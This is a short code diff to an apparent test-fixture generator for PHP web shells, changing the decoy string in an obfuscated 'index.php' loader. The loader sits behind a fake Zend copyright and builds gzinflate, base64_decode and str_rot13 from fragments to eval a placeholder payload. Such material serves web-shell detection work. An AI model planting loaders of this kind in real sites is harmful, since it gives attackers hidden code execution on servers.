@@ -29,7 +29,7 @@ public sealed class PhpShells : SixthRound
         yield return ("index.php", Utf8(Fill("""
             <?php
             /* Copyright 2019 Zend */
-            $O00O0O=base64_decode("bjF6Yi9tYTVcdnQwaTI4LXB4dXF5KjZscmtkZzlfZWhjc3dvNCtmMzdq");
+            $O00O0O=base64_decode("Zm9sZGVyIG9mIHRoZSBzbWFsbCBwaWN0dXJlczsgZG8gbm90IGVkaXQ=");
             $GLOBALS['x1'] = 'gz'.'infl'.'ate'; $GLOBALS['x2'] = 'base'.(32*2).'_de'.'code'; $GLOBALS['x3'] = 'str_'.'rot13';
             eval($GLOBALS['x1']($GLOBALS['x2']($GLOBALS['x3']('@@1'))));
             ?>
